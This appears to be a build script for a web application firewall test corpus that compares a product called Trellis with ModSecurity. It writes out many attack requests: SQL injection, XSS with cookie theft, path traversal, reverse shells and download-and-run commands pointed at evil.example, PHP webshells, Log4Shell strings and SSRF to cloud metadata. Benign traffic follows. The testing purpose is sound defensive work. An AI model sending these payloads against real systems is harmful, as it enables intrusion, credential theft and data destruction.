// Builds test/fixtures/waf-corpus/requests.json: the attack and benign requests that measure the WAF against
// ModSecurity + CRS (scripts/waf-reference.js records ModSecurity's verdicts, test/waf-corpus.test.ts Trellis's).
// The payloads are written for Trellis. Edit here, run `node scripts/waf-corpus-build.js`, then regenerate the
// reference verdicts. Output is deterministic (no clocks, no randomness).
//
// A request is { id, category, attack, where, method, target, headers: [[name, value]...], body? }. The runner
// adds Host, Content-Length (when there is a body) and Connection: close, identically for both engines.
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

const out = fileURLToPath(new URL('../test/fixtures/waf-corpus/requests.json', import.meta.url));

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const base = (accept = 'application/json') => [
  ['User-Agent', BROWSER],
  ['Accept', accept],
];
const enc = encodeURIComponent;

const requests = [];
const counters = new Map();
function add(category, attack, where, method, target, headers, body) {
  const n = (counters.get(category) ?? 0) + 1;
  counters.set(category, n);
  const r = {
    id: `${category}-${String(n).padStart(3, '0')}`,
    category,
    attack,
    where,
    method,
    target,
    headers,
  };
  if (body !== undefined) r.body = body;
  requests.push(r);
}

const BOUNDARY = '----trellis-corpus-7d3f9a';
function multipart(parts) {
  let s = '';
  for (const p of parts) {
    s += `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) s += `; filename="${p.filename}"`;
    s += '\r\n';
    if (p.type !== undefined) s += `Content-Type: ${p.type}\r\n`;
    s += `\r\n${p.value}\r\n`;
  }
  return `${s}--${BOUNDARY}--\r\n`;
}
const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`;

/** One value placed where a client would send it. `name` is the parameter's name. */
function place(category, attack, where, name, value, resource = 'items') {
  switch (where) {
    case 'query':
      return add(category, attack, where, 'GET', `/api/v1/${resource}?${name}=${enc(value)}`, base());
    case 'path':
      return add(category, attack, where, 'GET', `/api/v1/${resource}/${enc(value)}`, base());
    case 'cookie':
      return add(category, attack, where, 'GET', `/api/v1/${resource}`, [
        ...base(),
        ['Cookie', `sid=9f2c1e7a4b; ${name}=${enc(value)}`],
      ]);
    case 'user-agent':
      return add(category, attack, where, 'GET', `/api/v1/${resource}`, [
        ['User-Agent', value],
        ['Accept', 'application/json'],
      ]);
    case 'referer':
      return add(category, attack, where, 'GET', `/api/v1/${resource}`, [...base(), ['Referer', value]]);
    case 'header':
      return add(category, attack, where, 'GET', `/api/v1/${resource}`, [
        ...base(),
        ['X-Api-Version', value],
      ]);
    case 'form':
      return add(
        category,
        attack,
        where,
        'POST',
        `/api/v1/${resource}`,
        [...base(), ['Content-Type', 'application/x-www-form-urlencoded']],
        `action=save&${name}=${enc(value)}`,
      );
    case 'json':
      return add(
        category,
        attack,
        where,
        'POST',
        `/api/v1/${resource}`,
        [...base(), ['Content-Type', 'application/json']],
        JSON.stringify({ id: 17, data: { [name]: value, tags: ['a', 'b'] } }),
      );
    case 'multipart':
      return add(
        category,
        attack,
        where,
        'POST',
        `/api/v1/${resource}`,
        [...base(), ['Content-Type', MULTIPART]],
        multipart([
          { name: 'title', value: 'upload' },
          { name, value },
        ]),
      );
    default:
      throw new Error(`unknown placement ${where}`);
  }
}

/** Each payload goes to the placements listed with it, or rotates through `rotation`. */
function attacks(category, name, rotation, payloads, resource) {
  payloads.forEach((p, i) => {
    const [value, wheres] = Array.isArray(p) ? p : [p, undefined];
    const list = wheres ?? [rotation[i % rotation.length], rotation[(i + 1) % rotation.length]];
    for (const w of list) place(category, true, w, name, value, resource);
  });
}

// ---------------------------------------------------------------- attacks

attacks(
  'sqli',
  'id',
  ['query', 'json', 'form', 'cookie', 'multipart'],
  [
    "1' OR '1'='1",
    "' OR 1=1-- ",
    '1 UNION SELECT username, password FROM users--',
    '1; DROP TABLE users--',
    "admin'--",
    "1' AND SLEEP(5)-- -",
    '1 AND 1=CONVERT(int,(SELECT @@version))',
    "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- ",
    "1' AND extractvalue(1,concat(0x7e,(select database())))-- ",
    "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
    '1 OR benchmark(10000000,MD5(1))#',
    '" OR ""="',
    "1' ORDER BY 3-- -",
    '1)) OR ((1=1',
    "-1' UNION SELECT 1,load_file('/etc/passwd'),3-- -",
    "1' AND (SELECT COUNT(*) FROM sysobjects)>0--",
    "1; WAITFOR DELAY '0:0:5'--",
    "' HAVING 1=1--",
    "1' || pg_sleep(5)--",
    "1' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysusers),1,1))>64--",
    "x' AND 1=(SELECT 1 FROM dual WHERE 1=1) AND 'a'='a",
    '1/**/UNION/**/SELECT/**/password/**/FROM/**/users',
    ["1' OR '1'='1", ['path', 'user-agent']],
    ['1 UNION SELECT null,version()--', ['referer', 'header']],
  ],
);

attacks(
  'xss',
  'comment',
  ['query', 'json', 'form', 'multipart', 'cookie'],
  [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(document.domain)>',
    'javascript:alert(document.cookie)',
    '"><script>alert(String.fromCharCode(88,83,83))</script>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert('x')>",
    '<a href="#" onmouseover="alert(1)">hover</a>',
    '<details open ontoggle=alert(1)>',
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<input autofocus onfocus=alert(1)>',
    '<ScRiPt>prompt(1)</sCrIpT>',
    '<video><source onerror="alert(1)"></video>',
    "';document.location='https://evil.example/?c='+document.cookie;//",
    '<embed src="https://evil.example/x.swf">',
    '<marquee onstart=alert(1)>hi</marquee>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    ['<script>alert(1)</script>', ['path', 'referer']],
    ['<svg/onload=alert(1)>', ['user-agent', 'header']],
  ],
);

attacks(
  'lfi',
  'file',
  ['query', 'json', 'form', 'cookie', 'multipart'],
  [
    '../../../../etc/passwd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/shadow',
    '/proc/self/environ',
    '../../../../var/log/apache2/access.log',
    '..%2f..%2f..%2fetc%2fpasswd',
    '../WEB-INF/web.xml',
    '../../.htaccess',
    'C:\\Windows\\System32\\drivers\\etc\\hosts',
    '../../../../../../boot.ini',
    '/var/www/html/.env',
    '%2e%2e/%2e%2e/%2e%2e/etc/hosts',
    '..;/..;/admin',
    ['../../../etc/passwd', ['path', 'referer']],
  ],
  'files',
);
// Traversal in the raw path and sensitive files requested directly.
for (const target of [
  '/static/..%2f..%2f..%2fetc%2fpasswd',
  '/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/download?f=..%252f..%252f..%252fetc%252fpasswd',
  '/.git/config',
  '/.env',
  '/app/.htpasswd',
])
  add('lfi', true, 'path', 'GET', target, base('*/*'));

attacks(
  'rce-unix',
  'host',
  ['query', 'json', 'form', 'multipart', 'cookie'],
  [
    ';cat /etc/passwd',
    '8.8.8.8 | id',
    '`whoami`',
    '$(curl -s https://evil.example/x.sh | sh)',
    '; wget https://evil.example/s -O /tmp/s; chmod +x /tmp/s; /tmp/s',
    '127.0.0.1 && ls -la /',
    '; nc -e /bin/sh 10.0.0.1 4444',
    '; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1',
    ';/bin/sh -c id',
    '|| uname -a',
    '; python3 -c \'import os;os.system("id")\'',
    '$(sleep 10)',
    ';echo${IFS}pwned>/tmp/x',
    '; rm -rf /var/www',
    '; perl -e \'exec "/bin/sh"\'',
    '127.0.0.1\nid',
    ['() { :; }; /bin/bash -c "cat /etc/passwd"', ['user-agent', 'referer', 'header']],
    ['; cat /etc/passwd', ['path']],
  ],
  'tools/ping',
);

attacks(
  'rce-windows',
  'host',
  ['query', 'form', 'json', 'cookie', 'multipart'],
  [
    '& dir c:\\',
    '| type C:\\Windows\\win.ini',
    '; powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString(\'https://evil.example/x\')"',
    '& net user hacker P4ss /add',
    '| cmd.exe /c whoami',
    '& ipconfig /all',
    '& certutil -urlcache -split -f https://evil.example/x.exe x.exe',
    '; wmic process call create calc.exe',
    '& reg query HKLM\\Software\\Microsoft',
    '& systeminfo',
    '| tasklist /v',
    '& powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
    '&& del /f /q C:\\inetpub\\wwwroot\\*',
    '| start /b rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
  ],
  'tools/ping',
);

attacks(
  'php',
  'code',
  ['query', 'json', 'form', 'multipart', 'cookie'],
  [
    "<?php system($_GET['c']); ?>",
    '<?= `id` ?>',
    'php://filter/convert.base64-encode/resource=index.php',
    'php://input',
    'expect://id',
    'phar://uploads/avatar.jpg/shell',
    "system('id');",
    "eval(base64_decode('ZWNobyAxOw=='));",
    'assert($_POST[x])',
    "file_put_contents('shell.php', $_REQUEST['d']);",
    'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
    "call_user_func('system','id')",
    'data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==',
    "passthru('ls -la');",
    "$_SERVER['DOCUMENT_ROOT']",
    "shell_exec('cat /etc/passwd')",
    'zip://uploads/a.zip#shell.php',
    ['<?php phpinfo(); ?>', ['user-agent', 'referer']],
  ],
);
// A PHP file uploaded as an "image", and a PHP body in a file part.
add(
  'php',
  true,
  'multipart',
  'POST',
  '/api/v1/uploads',
  [...base(), ['Content-Type', MULTIPART]],
  multipart([
    {
      name: 'file',
      filename: 'avatar.php',
      type: 'image/png',
      value: "<?php echo shell_exec($_GET['c']); ?>",
    },
  ]),
);
add(
  'php',
  true,
  'multipart',
  'POST',
  '/api/v1/uploads',
  [...base(), ['Content-Type', MULTIPART]],
  multipart([
    { name: 'file', filename: 'notes.txt', type: 'text/plain', value: '<?php eval($_POST["x"]); ?>' },
  ]),
);

attacks(
  'java',
  'q',
  ['query', 'json', 'form', 'cookie', 'multipart'],
  [
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
    '${jndi:rmi://evil.example:1099/obj}',
    '${jndi:dns://evil.example/x}',
    '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/z}',
    'java.lang.Runtime.getRuntime().exec("id")',
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    '${T(java.lang.System).getenv()}',
    'new java.lang.ProcessBuilder("bash","-c","id").start()',
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x',
    "%{(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw',
    '<java.beans.XMLDecoder><object class="java.lang.ProcessBuilder">',
    ['${jndi:ldap://evil.example/ua}', ['user-agent', 'referer', 'header']],
  ],
);
// Struts-style OGNL in Content-Type.
add('java', true, 'header', 'POST', '/api/v1/upload.action', [
  ...base(),
  [
    'Content-Type',
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
  ],
]);

attacks(
  'ssrf-rfi',
  'url',
  ['query', 'json', 'form', 'multipart'],
  [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'https://evil.example/shell.txt?',
    'http://10.0.0.5/admin',
    'ftp://203.0.113.9/payload.txt',
    'file:///etc/passwd',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    'dict://127.0.0.1:11211/stats',
    'http://127.0.0.1:8080/actuator/env',
    'http://[::1]/admin',
    'http://0x7f000001/',
    'http://localhost/server-status',
    'https://evil.example/rfi.txt%00',
    'http://metadata.google.internal/computeMetadata/v1/',
    'include=http://evil.example/x.php?',
  ],
  'fetch',
);

// Protocol attacks: one request each, written out.
const P = (where, method, target, headers, body) =>
  add('protocol', true, where, method, target, headers, body);
P('query', 'GET', '/api/v1/redirect?next=%0d%0aSet-Cookie:%20admin=1', base());
P(
  'query',
  'GET',
  '/api/v1/lang?l=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html',
  base(),
);
P('query', 'GET', '/api/v1/search?q=x%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20internal', base());
P(
  'form',
  'POST',
  '/api/v1/search',
  [...base(), ['Content-Type', 'application/x-www-form-urlencoded']],
  'q=a%0aPOST%20/admin%20HTTP/1.1',
);
P('method', 'PROPFIND', '/api/v1/items', base());
P('method', 'TRACE', '/api/v1/items', base());
P('method', 'CONNECT', '/api/v1/items', base());
P('method', 'DEBUG', '/api/v1/items', base());
P('query', 'GET', '/api/v1/files?name=report.pdf%00.php', base());
P('path', 'GET', '/api/v1/items%00.json', base());
P('body', 'GET', '/api/v1/items', [...base(), ['Content-Type', 'application/json']], '{"q":"x"}');
P('header', 'POST', '/api/v1/items', [...base(), ['Content-Type', 'application/x-evil']], 'data');
P(
  'header',
  'POST',
  '/api/v1/items',
  [...base(), ['Content-Type', 'application/json; charset=utf-7']],
  '{"a":1}',
);
P('header', 'POST', '/api/v1/items', [...base(), ['Content-Type', 'text/html']], '<p>x</p>');
P('header', 'GET', '/api/v1/items', [...base(), ['Proxy', 'http://evil.example:8080']]);
P('header', 'GET', '/api/v1/items', [...base(), ['Lock-Token', '<opaquelocktoken:1234>']]);
P('header', 'GET', '/api/v1/items', [...base(), ['Content-Range', 'bytes 0-10/100']]);
P('header', 'GET', '/api/v1/items', [...base(), ['X-Forwarded-Host', 'evil.example%0d%0aX-Injected:%20yes']]);
P('header', 'GET', '/api/v1/items', [
  ...base(),
  ['Range', 'bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21,22-23,24-25,26-27,28-29,30-31'],
]);
P('header', 'GET', '/api/v1/items', [
  ...base(),
  ['Accept-Encoding', 'gzip'],
  ['Content-Length', '0'],
  ['Transfer-Encoding', 'chunked'],
]);
P('path', 'GET', '/backup/db.sql', base('*/*'));
P('path', 'GET', '/config/app.config.bak', base('*/*'));
P('path', 'GET', '/web.config', base('*/*'));
P('path', 'GET', '/api/v1/export.mdb', base('*/*'));
P('query', 'GET', '/api/v1/items?id=1&id=2%u0027', base());
P('query', 'GET', '/api/v1/items?q=%ZZbad', base());
P('query', 'GET', '/api/v1/items?q=%uff1cscript%uff1e', base());
P('header', 'GET', '/api/v1/items', [['Accept', 'application/json']]);
P('header', 'GET', '/api/v1/items', [...base(), ['Cookie', 'session=1; $Version=1; path=/admin']]);
P(
  'multipart',
  'POST',
  '/api/v1/uploads',
  [...base(), ['Content-Type', MULTIPART]],
  `${multipart([{ name: 'a', value: '1' }])}trailing data after the closing boundary\r\n`,
);
P(
  'multipart',
  'POST',
  '/api/v1/uploads',
  [...base(), ['Content-Type', `multipart/form-data; boundary="${BOUNDARY}"`]],
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--${BOUNDARY}\r\nContent-Disposition: form-data;\r\n name="b"\r\n\r\n2\r\n--${BOUNDARY}--\r\n`,
);
P(
  'multipart',
  'POST',
  '/api/v1/uploads',
  [...base(), ['Content-Type', MULTIPART]],
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--${BOUNDARY}-x\r\nContent-Disposition: form-data; name="b"\r\n\r\n2\r\n--${BOUNDARY}--\r\n`,
);
P(
  'json',
  'POST',
  '/api/v1/items',
  [...base(), ['Content-Type', 'application/json']],
  '{"name": "broken", "value": [1, 2,',
);
P('header', 'GET', '/api/v1/items', [...base(), ['X-Original-URL', '/admin/../../etc/passwd']]);

// Evasions: case, comments, encodings, entity and shell tricks, in the same places.
attacks(
  'sqli',
  'q',
  ['query', 'form', 'json', 'cookie', 'multipart'],
  [
    "1'/**/oR/**/1=1#",
    "1' oR '1'='1",
    "' or 1 like 1-- ",
    '1 and 1=1 union select 1,2,3 from dual#',
    "'||(select 1 from dual)||'",
    '1;select pg_sleep(3)',
    "admin' #",
    "' AND updatexml(1,concat(0x7e,user()),1)-- ",
    '1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))',
    "1' AND 'a'<>'b",
    '%27%20OR%20%271%27%3D%271',
    "1'\tOR\t1=1-- ",
  ],
);
attacks(
  'xss',
  'q',
  ['query', 'form', 'json', 'multipart', 'cookie'],
  [
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<img src="x" onerror="&#97;lert(1)">',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<x onclick=alert(1)>click me',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<form action=javascript:alert(1)><button>go</button></form>',
    '" onmouseover="alert(1)',
    '<base href="https://evil.example/">',
    '<svg><script>alert&#40;1&#41;</script></svg>',
    '<img src=1 onerror=eval(atob("YWxlcnQoMSk="))>',
  ],
);
attacks(
  'rce-unix',
  'cmd',
  ['query', 'form', 'json', 'multipart', 'cookie'],
  [
    ";c'a't /e't'c/pa's's'wd",
    ';/???/c?t /???/p?ss??',
    ';cat$IFS/etc/passwd',
    ';{cat,/etc/passwd}',
    "$(printf '\\x69\\x64')",
    ';curl evil.example/x|bash',
    '| nslookup $(whoami).evil.example',
    ';busybox nc 10.0.0.1 4444 -e sh',
    ';ping -c 3 10.0.0.1',
    '; echo cm0gLXJmIC90bXAveA== | base64 -d | sh',
  ],
);

// ---------------------------------------------------------------- benign

const B = (category, where, method, target, headers, body) =>
  add(category, false, where, method, target, headers, body);
const json = (category, method, target, value) =>
  B(
    category,
    'json',
    method,
    target,
    [...base(), ['Content-Type', 'application/json']],
    JSON.stringify(value),
  );
const form = (category, target, body) =>
  B(
    category,
    'form',
    'POST',
    target,
    [...base(), ['Content-Type', 'application/x-www-form-urlencoded']],
    body,
  );

// REST GETs: filters, pagination, sorting, ids, dates.
for (const target of [
  '/api/v1/orders/12345',
  '/api/v1/orders?page=2&per_page=50&sort=-created_at',
  '/api/v1/orders?status=shipped&status=delivered&limit=100&offset=200',
  '/api/v1/users/8c6f2a3e-4b1d-4e8a-9f3c-2d7b1a6e5c40',
  '/api/v1/search?q=coffee+shops+near+me&lat=52.52&lng=13.405&radius=2km',
  '/api/v1/products?category=books&min_price=10&max_price=25.50&in_stock=true',
  '/api/v1/reports/2024-05-01/summary.json',
  '/api/v1/items?ids=1,2,3,4,5&fields=id,name,price',
  '/api/v1/events?since=2024-06-01T12:00:00Z&until=2024-06-02T00:00:00Z&tz=Europe%2FBerlin',
  '/api/v1/items?filter%5Bstatus%5D=active&filter%5Bowner%5D=me&page%5Bsize%5D=25',
  '/api/v1/items?sort=name:asc,created_at:desc',
  '/api/v1/items?q=name%3D%22widget%22%20AND%20price%3C10',
  '/api/v1/repos/acme/widgets/commits?sha=main&path=src%2Findex.ts',
  '/api/v1/files/report-final_v2.pdf',
  '/api/v1/users?email=jane.doe%2Bnews%40example.com',
  '/api/v1/geo/tiles/12/2200/1343.png',
  '/api/v2/catalog/categories/home-garden/products?color=dark%20green&size=XL',
  '/api/v1/search?q=how+to+select+an+option+from+a+dropdown',
  '/api/v1/search?q=union+station+to+airport',
  '/api/v1/search?q=drop+shipping+suppliers+and+wholesale',
  '/api/v1/search?q=C%2B%2B+templates+vs+Java+generics',
  '/api/v1/search?q=%E6%9D%B1%E4%BA%AC+%E3%83%A9%E3%83%BC%E3%83%A1%E3%83%B3',
  `/api/v1/search?q=${enc('مطعم قريب مني')}`,
  `/api/v1/search?q=${enc('Привет, мир')}`,
  `/api/v1/search?q=${enc('Zürich Straße café crème brûlée')}`,
  `/api/v1/search?q=${enc('北京 天气 明天')}`,
  `/api/v1/search?q=${enc('🍕 pizza near me 🚲')}`,
  '/api/v1/items?cursor=eyJpZCI6MTIzNDUsInRzIjoxNzE3MjAwMDAwfQ%3D%3D',
  '/api/v1/stats?metric=p99_latency&window=5m&group_by=route',
  '/api/v1/invoices?year=2024&month=06&currency=EUR',
  '/api/v1/flags?key=new-checkout&env=production',
  '/api/v1/translations/de-DE/messages.json',
  '/health',
  '/metrics',
  '/api/v1/items?callback_url=https%3A%2F%2Fhooks.example.com%2Fci%2Fbuild',
  '/api/v1/weather?city=S%C3%A3o+Paulo&units=metric',
  '/api/v1/items?price_gte=5&price_lte=20&rating_gt=3.5',
  '/api/v1/logs?level=error&message=connection+refused&service=billing',
  '/api/v1/items?name=O%27Reilly',
  '/api/v1/docs?section=select-statements&version=2',
])
  B('benign-rest', target.includes('?') ? 'query' : 'path', 'GET', target, base());

const auth = [
  [
    'Authorization',
    'Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkphbmUiLCJpYXQiOjE3MTcyMDAwMDB9.Jq2t5m3bGk7pVwX1o8cZ9yH4aR6sL0uE2dF3gN5hI7k',
  ],
];
B('benign-rest', 'header', 'GET', '/api/v1/users/me', [...base(), ...auth]);
B('benign-rest', 'cookie', 'GET', '/api/v1/cart', [
  ...base(),
  ['Cookie', 'session=abc123def456; theme=dark; lang=en-GB; _ga=GA1.2.1234567890.1717200000'],
]);
B('benign-rest', 'header', 'GET', '/api/v1/items', [
  ...base(),
  ['X-Request-Id', '4bf92f3577b34da6a3ce929d0e0e4736'],
  ['If-None-Match', '"33a64df551425fcc55e4d42a148795d9f25f89d4"'],
]);
B('benign-rest', 'header', 'GET', '/api/v1/items', [
  ...base(),
  ['traceparent', '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01'],
  ['Accept-Language', 'de-DE,de;q=0.9,en;q=0.8'],
]);
B('benign-rest', 'header', 'GET', '/api/v1/items', [
  ['User-Agent', 'curl/8.5.0'],
  ['Accept', '*/*'],
]);
B('benign-rest', 'header', 'GET', '/api/v1/items', [
  ['User-Agent', 'okhttp/4.12.0'],
  ['Accept', 'application/json'],
  ['Accept-Encoding', 'gzip'],
]);
B('benign-rest', 'header', 'GET', '/api/v1/items', [
  ['User-Agent', 'python-requests/2.32.3'],
  ['Accept', '*/*'],
  ['Accept-Encoding', 'gzip, deflate'],
  ['Connection', 'keep-alive'],
]);
B('benign-rest', 'header', 'GET', '/api/v1/items', [
  ...base(),
  ['Referer', 'https://app.example.com/dashboard?tab=orders&range=30d'],
]);
B('benign-rest', 'header', 'GET', '/api/v1/items', [
  ...base(),
  ['X-Forwarded-For', '203.0.113.7, 10.0.0.2'],
  ['X-Forwarded-Proto', 'https'],
]);
B('benign-rest', 'header', 'DELETE', '/api/v1/orders/12345', [...base(), ...auth]);
B('benign-rest', 'header', 'OPTIONS', '/api/v1/orders', [
  ...base(),
  ['Origin', 'https://app.example.com'],
  ['Access-Control-Request-Method', 'PUT'],
]);
B('benign-rest', 'header', 'HEAD', '/api/v1/files/archive.zip', base('*/*'));

// JSON bodies.
const md = `# Release notes 2.4

This release adds **bulk export** and _faster sync_.

- Export up to 10,000 rows at once
- Fixed a crash when the list is empty
- See the docs at https://docs.example.com/export for details

> Note: the old endpoint is deprecated and will be removed in 3.0.

| plan | price |
| ---- | ----- |
| free | 0 |
| pro  | 12 |
`;
const J = (target, value, method = 'POST') => json('benign-json', method, target, value);
J('/api/v1/posts', { title: 'Release 2.4', body: md, tags: ['release', 'notes'] });
J('/api/v1/posts', {
  title: 'Weekly update',
  body: '## Status\n\n1. Shipped the *new* onboarding\n2. Started on billing\n\nThanks everyone! 🎉',
});
J('/api/v1/posts', {
  title: 'Links',
  body: 'Useful links: <https://example.com/guide> and https://github.com/org/repo/pull/42',
});
J('/api/v1/posts', {
  title: 'Markdown link',
  body: 'Read the [installation guide](https://docs.example.com/install) first.',
});
J('/api/v1/orders', {
  items: [
    { sku: 'AB-123', qty: 2 },
    { sku: 'CD-456', qty: 1 },
  ],
  note: 'Leave at the door, please.',
});
J('/api/v1/users', {
  name: "Conan O'Brien",
  email: 'conan@example.com',
  bio: "I'm a writer and I don't like mornings.",
});
J('/api/v1/messages', { to: 'Zoë', text: 'Das Meeting ist um 15 Uhr — bitte pünktlich sein! 😀' });
J('/api/v1/messages', { text: '你好，明天见。会议在三楼。请带上笔记本电脑。' });
J('/api/v1/messages', { text: 'مرحبا، كيف حالك؟ الاجتماع غدا في الساعة العاشرة.' });
J('/api/v1/messages', { text: 'שלום! נתראה מחר בבוקר.' });
J('/api/v1/messages', { text: 'こんにちは。明日の会議は10時からです。' });
J('/api/v1/messages', { text: '안녕하세요, 내일 회의는 오전 10시입니다.' });
J('/api/v1/messages', { text: 'नमस्ते, कल सुबह मिलते हैं।' });
J('/api/v1/messages', { text: '🚀🔥💯 launch day!!! 👏👏 ❤️' });
J('/api/v1/settings', { theme: 'dark', notifications: { email: true, sms: false }, locale: 'de-DE' }, 'PUT');
J('/api/v1/payments', { amount: 1999, currency: 'EUR', card: { last4: '4242', exp: '12/27' } });
J('/api/v1/addresses', { street: '221B Baker Street', city: 'London', zip: 'NW1 6XE', country: 'GB' });
J('/api/v1/feedback', { rating: 4, comment: 'Great app, but the search could be faster. Also: dark mode?' });
J('/api/v1/feedback', {
  comment: 'Please select the best option from the list and update the table when done.',
});
J('/api/v1/feedback', {
  comment: 'We should drop the old table design and union the two teams behind one layout.',
});
J('/api/v1/feedback', {
  comment: 'Where can I delete my account from? I tried settings, then privacy, and nothing.',
});
J('/api/v1/feedback', {
  comment: 'The order of items is wrong: sort by date, then by name, or by price if equal.',
});
J('/api/v1/feedback', { comment: 'I would like to insert a new row into the table between row 3 and 4.' });
J('/api/v1/tasks', { title: 'Fix login page', due: '2024-07-01', assignees: [12, 15], done: false });
J('/api/v1/geo', { type: 'Point', coordinates: [13.405, 52.52] });
J('/api/v1/orders/12345', { status: 'shipped', tracking: '1Z999AA10123456784' }, 'PUT');
J('/api/v1/orders/12345', { note: 'Customer asked to change the size from M to L.' }, 'PATCH');
J('/api/v1/snippets', {
  lang: 'javascript',
  code: 'const total = items.reduce((sum, item) => sum + item.price, 0);\nconsole.log(`total: ${total}`);',
});
J('/api/v1/snippets', {
  lang: 'python',
  code: 'def mean(xs):\n    return sum(xs) / len(xs) if xs else 0.0\n\nprint(mean([1, 2, 3]))',
});
J('/api/v1/snippets', { lang: 'go', code: 'func Add(a, b int) int {\n\treturn a + b\n}' });
J('/api/v1/snippets', {
  lang: 'rust',
  code: 'fn main() {\n    let v: Vec<u32> = (1..10).map(|x| x * x).collect();\n    println!("{:?}", v);\n}',
});
J('/api/v1/snippets', {
  lang: 'typescript',
  code: 'export interface User { id: string; name?: string }\nexport const byId = (u: User[], id: string) => u.find((x) => x.id === id);',
});
J('/api/v1/snippets', {
  lang: 'css',
  code: '.card { display: flex; gap: 8px; color: #333; }\n.card:hover { box-shadow: 0 1px 4px rgba(0,0,0,.2); }',
});
J('/api/v1/snippets', {
  lang: 'yaml',
  code: 'services:\n  web:\n    image: nginx:1.27\n    ports: ["8080:80"]',
});
J('/api/v1/snippets', {
  lang: 'sql',
  code: "SELECT id, name FROM customers WHERE country = 'DE' ORDER BY name;",
});
J('/api/v1/snippets', { lang: 'shell', code: 'ls -la && cat README.md | grep install' });
J('/api/v1/snippets', { lang: 'html', code: '<div class="card"><h2>Title</h2><p>Some text</p></div>' });
J('/api/v1/snippets', {
  lang: 'java',
  code: 'public static void main(String[] args) { System.out.println("hi"); }',
});
J('/api/v1/snippets', {
  lang: 'c',
  code: '#include <stdio.h>\nint main(void) { printf("%d\\n", 42); return 0; }',
});
J('/api/v1/webhooks', {
  url: 'https://hooks.example.com/services/T000/B000/XXXX',
  events: ['order.created', 'order.paid'],
});
J('/api/v1/links', {
  links: ['https://example.com/a?b=c&d=e', 'https://github.com/org/repo/pull/42', 'mailto:team@example.com'],
});
J('/api/v1/avatars', {
  filename: 'me.png',
  data: 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
});
J('/api/v1/attachments', {
  name: 'notes.txt',
  content_base64: Buffer.from('Meeting notes: ship v2 on Friday. Ask Sam about the invoices.').toString(
    'base64',
  ),
});
J('/api/v1/keys', {
  name: 'deploy',
  public_key: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq3kZ6b1vR0h8xQmQ4y0m4S8l3k7n2W9p5u1c0e7d6f deploy@ci',
});
J('/api/v1/analytics', {
  events: Array.from({ length: 20 }, (_, i) => ({ name: 'page_view', path: `/docs/page-${i}`, ms: 120 + i })),
});
J(
  '/api/v1/profile',
  { display_name: 'Dr. Ana-María López-García', pronouns: 'she/her', website: 'https://ana.example.org' },
  'PATCH',
);
J('/api/v1/search', {
  query: {
    bool: {
      must: [{ match: { title: 'quick brown fox' } }],
      filter: [{ range: { date: { gte: '2024-01-01' } } }],
    },
  },
  size: 20,
});
J('/api/v1/graphql', {
  query: 'query Orders($first: Int) { orders(first: $first) { edges { node { id total } } } }',
  variables: { first: 10 },
});
J('/api/v1/chat', {
  messages: [{ role: 'user', content: 'Can you explain what a JOIN is in SQL, with an example?' }],
});
J('/api/v1/chat', {
  messages: [{ role: 'user', content: 'Write a haiku about autumn leaves falling on a quiet lake.' }],
});
